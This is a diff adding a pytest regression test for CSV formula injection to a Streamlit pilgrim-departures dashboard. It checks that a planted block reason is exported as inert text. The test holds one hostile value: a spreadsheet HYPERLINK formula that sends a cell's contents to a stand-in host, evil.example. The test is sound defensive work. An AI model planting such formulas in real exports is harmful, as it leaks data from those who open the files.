@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from streamlit.testing.v1 import AppTest
 
@@ -78,3 +81,27 @@ def test_demo_2000_smoke(demo2000: Workspace) -> None:
     at = open_page("departures", dataset="demo-2000", window="14", lang="English")
     assert at.title[0].value == "Departures"
     assert len(group_titles(at)) == len(dashboard.upcoming_departures(system_viewer(demo2000), days=14).items)
+
+
+def test_a_formula_planted_in_a_block_reason_is_text_in_the_csv(fresh_demo13: Workspace) -> None:
+    """CSV formula injection: a reason typed as a spreadsheet formula reaches the export as text."""
+    from ui_kit.cards import jamaah_csv
+
+    planted = '=HYPERLINK("http://evil.example/?d="&B2,"Klik")'
+    manager = system_viewer(fresh_demo13)
+    group = next(g for g in dashboard.upcoming_departures(manager, days=30).items if g.not_ready)
+    target = next(
+        line
+        for line in actions.not_ready_jamaah(manager, group.package_id, limit=100).items
+        if line.stage_status is not None and line.stage_status.value != "blocked"
+    )
+    task = next(
+        line for line in dashboard.jamaah_detail(manager, target.id).tasks if line.status != "completed"
+    )
+    actions.block_task(manager, task.id, task.version, planted)
+
+    lines = actions.not_ready_jamaah(manager, group.package_id, limit=100).items
+    rows = list(csv.reader(io.StringIO(jamaah_csv(lines, fresh_demo13))))
+    reasons = [row[-1] for row in rows[1:]]
+    assert "'" + planted in reasons
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
